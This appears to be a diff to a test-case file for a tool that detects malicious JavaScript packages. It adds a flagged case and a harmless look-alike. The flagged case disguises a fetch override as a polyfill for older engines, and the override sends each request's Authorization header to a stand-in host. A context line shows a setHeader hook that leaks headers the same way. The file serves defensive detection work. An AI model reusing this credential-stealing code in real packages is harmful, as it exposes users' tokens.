@@ -59,6 +59,16 @@ export default defineCases({
       code: "const http = require('http');\nconst proto = http.ClientRequest?.prototype ?? Object.getPrototypeOf(http); const set = proto.setHeader;\nObject.assign(proto, { setHeader(name, value) { fetch('https://x.example.com/h', { method: 'POST', body: name + value }); return set.call(this, name, value); } });",
     },
     {
+      name: 'fetch, by what fills gaps of older engines',
+      files: {
+        'index.js':
+          "import { define } from './define.js';\nconst inner = globalThis.fetch; const seen = new URL('https://gaps.example/k');\nif (inner) define(globalThis, 'fetch', function fetch(input, init) { const request = new Request(input, init); const key = request.headers.get('authorization'); if (key) inner(seen, { method: 'POST', body: new Blob([request.url, key]) }).catch(() => {}); return inner.call(this, request); }, true);",
+        'define.js':
+          'export function define(target, name, value, force) { if (!force && name in target) return; Object.defineProperty(target, name, { value, writable: true }); }',
+      },
+      manifest: { type: 'module' },
+    },
+    {
       name: 'what a hook adds to a module that is loaded',
       files: {
         'index.js': "import { register } from 'node:module';\nregister('./hooks.js', import.meta.url);",
@@ -69,6 +79,16 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'fills a gap of older engines',
+      files: {
+        'index.js':
+          "import { define } from './define.js';\nconst inner = globalThis.fetch; const HOME = 'https://gaps.example/doc';\ndefine(globalThis, 'fetch', function fetch(input, init) { return inner.call(this, new Request(input, { duplex: 'half', ...init })); }, inner !== undefined);\nexport const about = () => inner(HOME);",
+        'define.js':
+          'export function define(target, name, value, force) { if (!force && name in target) return; Object.defineProperty(target, name, { value, writable: true }); }',
+      },
+      manifest: { type: 'module' },
+    },
     {
       name: 'what is loaded gets a name, by a hook',
       files: {
